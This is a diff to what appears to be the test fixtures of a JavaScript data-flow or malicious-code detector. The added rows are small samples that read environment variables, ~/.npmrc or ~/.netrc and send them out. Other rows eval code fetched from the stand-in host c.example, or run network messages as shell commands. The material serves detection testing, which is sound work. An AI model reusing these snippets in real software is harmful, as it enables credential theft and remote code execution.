@@ -375,6 +375,26 @@ const CHANNELS: readonly Row[] = [
     'a function that loads by the loader behind',
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
+  ['a setter', 'const o={set sink(v){SEND«JSON.stringify(v)»}};o.sink=process.env'],
+  [
+    'names that are symbols',
+    "const k=Symbol('k'),s=Symbol('s');class C{get [k](){return process.env} [s](v){SEND«JSON.stringify(v)»}} const c=new C();c[s](c[k])",
+  ],
+  ['a tag', 'const send=(t,...v)=>SEND«v.join()»;send`${JSON.stringify(process.env)}`'],
+  [
+    'modules that are loaded together',
+    "Promise.all(['fs','os'].map((n)=>import(n))).then(([fs,os])=>SEND«fs.readFileSync(os.homedir()+'/.npmrc')»)",
+  ],
+  [
+    'what is assigned to an instance all at once',
+    {
+      'index.js':
+        "import * as vault from './vault.js';class R{constructor({vault}){Object.assign(this,{vault})} async run(){SEND«await this.vault.load()»}} new R({vault}).run()",
+      'vault.js':
+        "import {readFileSync} from 'fs';import {homedir} from 'os';export const load=()=>readFileSync(homedir()+'/.netrc')",
+    },
+    { type: 'module' },
+  ],
   [
     'a function of another module that packs',
     {
@@ -833,6 +853,21 @@ const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = 
     'what a callback of a request is given',
     "const request=require('request');request.get('https://c.example',(e,r,b)=>{eval(b)})",
     'remote to code',
+  ],
+  [
+    'an event that is sent',
+    "const es=new EventSource('https://c.example');es.onmessage=(m)=>eval(m.data)",
+    'part of remote to code',
+  ],
+  [
+    'a message that is a command',
+    "const ws=new (require('ws'))('wss://c.example');ws.on('message',(m)=>require('child_process').exec(m.toString()))",
+    'remote to process',
+  ],
+  [
+    'a request that is a command',
+    "require('http').createServer((q,s)=>{q.on('data',(d)=>require('child_process').exec(`${d}`))})",
+    'request to process',
   ],
 ];
 
